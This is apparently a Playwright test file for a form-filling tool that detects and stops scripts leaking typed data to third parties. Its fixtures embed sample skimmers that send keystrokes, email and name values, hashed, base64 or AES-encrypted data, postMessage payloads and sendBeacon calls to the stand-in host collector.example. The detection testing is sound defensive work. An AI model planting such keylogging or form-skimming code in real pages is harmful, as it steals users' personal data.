import { expect, test } from '@playwright/test';
import { fillOn, formPage, type FillRun } from './fill-site.js';
import type { Site } from './logging-server.js';

const form = `<form action="/join" method="post"><label>E-mail <input type="email" name="email" id="email"></label>
  <label>Full name <input name="name" id="name"></label><label>ZIP <input name="zip" id="zip" autocomplete="postal-code"></label><button>Join</button></form>`;
const serve =
  (script: string): Site =>
  ({ path, host }) =>
    path === '/' && host === 'www.mpro.org'
      ? formPage(form, script)
      : { body: 'ok', headers: { 'access-control-allow-origin': '*' } };
const atCollector = ({ requests }: FillRun): string[] =>
  requests.filter(({ host }) => host === 'collector.example').map(({ path, body }) => path + body);
const send = (what: string): string => `fetch('https://collector.example/k?' + ${what}, { mode: 'no-cors' })`;
const side = ({ filled }: FillRun) => filled.transmissions.filter(({ isSubmission }) => !isSubmission);

for (const [name, script] of [
  [
    'one key a request',
    `addEventListener('keydown', e => e.key.length === 1 && ${send(`'c=' + encodeURIComponent(e.key)`)})`,
  ],
  [
    'one key code a request',
    `addEventListener('keydown', e => e.key.length === 1 && ${send(`'c=' + e.key.charCodeAt(0)`)})`,
  ],
  [
    'one key a path',
    `addEventListener('keydown', e => e.key.length === 1 && fetch('https://collector.example/k/' + encodeURIComponent(e.key), { mode: 'no-cors' }))`,
  ],
  [
    'one key a WebSocket message',
    `const s = new WebSocket('wss://collector.example/s'); addEventListener('keydown', e => e.key.length === 1 && s.send(e.key))`,
  ],
] as const) {
  test(`${name}: put together again and laid to the field, and none arrives`, async () => {
    const run = await fillOn(serve(script));
    const sighted = side(run).flatMap(({ sightings }) => sightings);
    expect(sighted.map(({ encoding }) => encoding[0] ?? '').join()).toMatch(/key by key|split over requests/);
    expect(sighted.map(({ field }) => field)).toContain('#email');
    // A dot is no path of its own: the browser takes it out.
    expect(atCollector(run).filter(path => /^\/k(\/.|\?)/.test(path))).toEqual([]);
    expect(run.raw.split('\n').filter(line => line.length === 1)).toEqual([]);
  });
}

test('a value that grows with every key, hashed or not, does not leave while it grows', async () => {
  const hash = `crypto.subtle.digest('SHA-1', new TextEncoder().encode(v)).then(d => ${send(`'h=' + btoa(String.fromCharCode(...new Uint8Array(d)))`)})`;
  for (const script of [`'q=' + email.value`, `'q=' + btoa(email.value)`]
    .map(send)
    .concat(`const v = email.value; ${hash}`)) {
    const run = await fillOn(serve(`email.addEventListener('input', () => { ${script} })`));
    expect(side(run).flatMap(({ sightings }) => sightings.map(({ field }) => field))).toContain('#email');
    expect(atCollector(run)).toEqual([]);
  }
});

test('a log of keys that knows nothing of corrections is found, and a count of keys is none', async () => {
  const logs = (what: string): Site =>
    serve(`let keys = ''; addEventListener('keydown', e => { if (e.target === document.getElementById('name') && e.key.length === 1) keys += e.key; });
      document.getElementById('name').addEventListener('blur', () => { ${send(what)} });`);
  const sighted = (run: FillRun): string[] =>
    side(run).flatMap(({ sightings }) =>
      sightings.map(({ field, encoding }) => `${field} ${encoding.join(' ')}`),
    );
  expect(sighted(await fillOn(logs(`'k=' + encodeURIComponent(btoa(keys))`)))).toContain('#name base64');
  expect(sighted(await fillOn(logs(`'n=' + keys.length`)))).toEqual([]);
});

test('encrypted data to a third party after the first key is recorded as such and stopped; what was there before is not', async () => {
  const key = `crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, false, ['encrypt'])`;
  const encrypt = `${key}.then(k => crypto.subtle.encrypt({ name: 'AES-GCM', iv: new Uint8Array(12) }, k, new TextEncoder().encode(JSON.stringify({ v: email.value, pad: 'x'.repeat(60) }))))`;
  const raw = await fillOn(
    serve(
      `email.addEventListener('blur', () => ${encrypt}.then(b => fetch('https://collector.example/k', { method: 'POST', mode: 'no-cors', body: b })))`,
    ),
  );
  expect(side(raw).map(({ opaque, stopped, sightings }) => [opaque, stopped, sightings])).toEqual([
    [true, true, []],
  ]);
  expect(atCollector(raw)).toEqual([]);
  const token = `const token = btoa(String.fromCharCode(...crypto.getRandomValues(new Uint8Array(90))));`;
  const known = await fillOn(
    serve(
      `${token} const ping = () => fetch('https://collector.example/k', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ token, event: 'focus' }) }); ping(); email.addEventListener('blur', ping)`,
    ),
  );
  expect(side(known)).toEqual([]);
  expect(atCollector(known).length).toBeGreaterThan(1);
});

test('a short value that cannot be searched for does not leave as a whole parameter', async () => {
  const run = await fillOn(
    serve(`zip.addEventListener('blur', () => { ${send(`'z=' + zip.value`)}; ${send(`'n=12345'`)} })`),
  );
  expect(atCollector(run).filter(path => path !== '/k?n=12345')).toEqual([]);
});

for (const [name, message] of [
  ['an object', '{ kind: "lead", mail: email.value }'],
  ['behind a long page', '"x".repeat(300_000) + email.value'],
  ['as bytes, behind many', 'new TextEncoder().encode(" ".repeat(100_000) + email.value)'],
] as const)
  test(`a typed value handed to a third party's frame by a message: ${name}`, async () => {
    const site: Site = request =>
      request.host === 'vendor.test'
        ? { body: '<!doctype html><title>widget</title>' }
        : request.path === '/'
          ? formPage(
              `${form}<iframe src="https://vendor.test/w" title="Chat"></iframe>`,
              `const w = document.querySelector('iframe').contentWindow; email.addEventListener('blur', () => email.value && w.postMessage(${message}, '*')); name.onblur = () => w.postMessage('harmless', '*');`,
            )
          : { body: 'ok' };
    const run = await fillOn(site);
    expect(
      side(run).map(({ channel, host, moment, sightings }) => [
        channel,
        host,
        moment,
        sightings.map(({ field }) => field),
      ]),
    ).toEqual([['post-message', 'vendor.test', 'blur', ['#email']]]);
  });

test('never: nothing is submitted, and what scripts send is stopped', async () => {
  const run = await fillOn(serve(`email.addEventListener('change', () => ${send(`'v=' + email.value`)})`), {
    submit: 'never',
  });
  expect(run.filled.trials).toEqual([
    { filled: 'full', result: 'not-tried', detail: 'SUBMIT=never', hops: [], refusedFields: [] },
  ]);
  expect(side(run).map(({ moment, stopped }) => [moment, stopped])).toEqual([['blur', true]]);
  expect(atCollector(run)).toEqual([]);
  expect(run.requests.filter(({ method }) => method === 'POST')).toEqual([]);
});

test('real: what goes to third parties is recorded and let through', async () => {
  const run = await fillOn(serve(`email.addEventListener('change', () => ${send(`'v=' + email.value`)})`), {
    submit: 'real',
  });
  expect(side(run).map(({ host, stopped }) => [host, stopped])).toEqual([['collector.example', false]]);
  expect(atCollector(run).length).toBeGreaterThan(0);
});

for (const event of ['beforeunload', 'pagehide'])
  test(`what is sent on ${event} of a form that is left unsubmitted is seen; a count of its fields is none`, async () => {
    const tag = (what: string): string =>
      `let sent = false; document.forms[0].addEventListener('submit', () => { sent = true; });
       addEventListener('${event}', () => { if (!sent) navigator.sendBeacon('https://collector.example/left', ${what}); });`;
    const run = await fillOn(
      serve(tag('JSON.stringify({ e: email.value, n: document.getElementById("name").value })')),
    );
    expect(side(run).map(({ host, moment, stopped }) => [host, moment, stopped])).toEqual([
      ['collector.example', 'leaving', true],
    ]);
    expect(side(run).flatMap(({ sightings }) => sightings.map(({ field }) => field))).toEqual([
      '#email',
      '#name',
    ]);
    const counts = await fillOn(serve(tag('String(document.forms[0].elements.length)')));
    expect(side(counts)).toEqual([]);
    expect(atCollector(counts)).toEqual(['/left4']);
  });
